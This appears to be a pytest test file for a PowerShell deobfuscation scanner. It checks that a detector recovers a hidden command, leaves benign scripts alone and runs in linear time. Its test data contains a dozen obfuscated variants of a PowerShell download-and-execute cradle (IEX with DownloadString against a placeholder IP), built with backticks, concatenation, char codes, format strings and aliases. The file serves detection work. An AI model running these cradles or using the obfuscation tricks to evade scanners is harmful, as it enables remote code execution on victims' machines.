"""PowerShell is found however it is spelled, and plain programs are left alone."""

import time

import pytest

from panguard.scan.powershell import plain, spelled

RUN = "I" + "EX"
LOAD = "Down" + "loadString"
HOST = "http://198.51.100.7/a"
READ = f"{RUN} (New-Object Net.WebClient).{LOAD}('{HOST}')"


@pytest.mark.parametrize(
    "written",
    [
        f"I`E`X (N`ew-Obj`ect Net.WebClient).Down`loadString('{HOST}')",
        f"I`EX (New-Object `\n  Net.WebClient).{LOAD}('{HOST}')",
        f"& (\"{{1}}{{0}}\" -f 'X','IE') (New-Object Net.WebClient).{LOAD}('{HOST}')",
        f"&('I'+'EX') (New-Object Net.WebClient).('Down'+'loadString')('{HOST}')",
        f"$a='IE'; $b='X'\n& ($a+$b) (New-Object Net.WebClient).{LOAD}('{HOST}')",
        f". ('Z'.replace('Z','{RUN}')) (New-Object Net.WebClient).\"{LOAD}\"('{HOST}')",
        f"& ('XEI'[-1..-3] -join '') (New-Object Net.WebClient).{LOAD}('{HOST}')",
        f"& (-join([char[]](73,69,88))) (New-Object Net.WebClient).{LOAD}('{HOST}')",
        f"& ([char]73+[char]0x45+[char]88) (New-Object Net.WebClient).{LOAD}('{HOST}')",
        f"& ((73,69,88|%{{[char]$_}}) -join '') (New-Object Net.WebClient).{LOAD}('{HOST}')",
        f"& ('I','E','X' -join '') (New-Object Net.WebClient).{LOAD}('{HOST}')",
        f"sal q {RUN}\nq (New-Object Net.WebClient).{LOAD}('{HOST}')",
    ],
)
def test_a_command_is_found_however_it_is_spelled(written: str) -> None:
    assert READ in " ".join(plain(written).replace("'' ", "").split())


@pytest.mark.parametrize(
    "written",
    [
        ". ($env:ComSpec[4,26,25]-join'') $x",
        "& ($PSHome[4]+$PSHome[30]+'x') $x",
        "& ($ShellId[1]+$ShellId[13]+'x') $x",
    ],
)
def test_letters_of_well_known_names_are_read(written: str) -> None:
    assert plain(written) == "iex $x"


def test_only_what_says_more_becomes_a_view() -> None:
    text = f"Write-Host ready\nI`E`X (irm {HOST})\n"
    view = spelled(text, [(0, len(text))])
    assert view is not None
    assert view.text.endswith(f"{RUN} (irm {HOST})\n")
    start = view.text.index(RUN)
    assert text[slice(*view.source_span(start, start + 3))].startswith("I`E`X")


@pytest.mark.parametrize(
    "text",
    [
        "Write-Host \"a`nb\" + 'c'\n",
        "$path = 'C:\\' + 'Temp'\nGet-ChildItem $path\n",
        "'{0} files' -f $count\n",
        "$a = 'x'; $a = 'y'; Write-Host $a\n",
        "Get-ChildItem | Where-Object { $_.Name -replace 'a','b' }\n",
        f"Invoke-WebRequest {HOST} `\n  -OutFile x.zip\n",
    ],
)
def test_plain_programs_are_left_alone(text: str) -> None:
    assert spelled(text, [(0, len(text))]) is None


UNITS = (
    "a`",
    "'a'+",
    "'{0}' -f ",
    "[char]65+",
    "(1,",
    "'a' -replace 'a',",
    "'a'[-1..",
    "&'aa' ",
    "$a='b';",
    "$a ",
)


@pytest.mark.parametrize("unit", [*UNITS, "-join(", "('a',", "sal a b\n", '"', "'", "(", "\n", " "])
def test_a_hostile_program_costs_no_more_than_its_length(unit: str) -> None:
    def cost(size: int) -> float:
        started = time.process_time()
        plain("$a='bb'\n" + unit * (size // len(unit)))
        return time.process_time() - started

    few = max(cost(20_000), 0.01)
    assert cost(160_000) < 24 * few
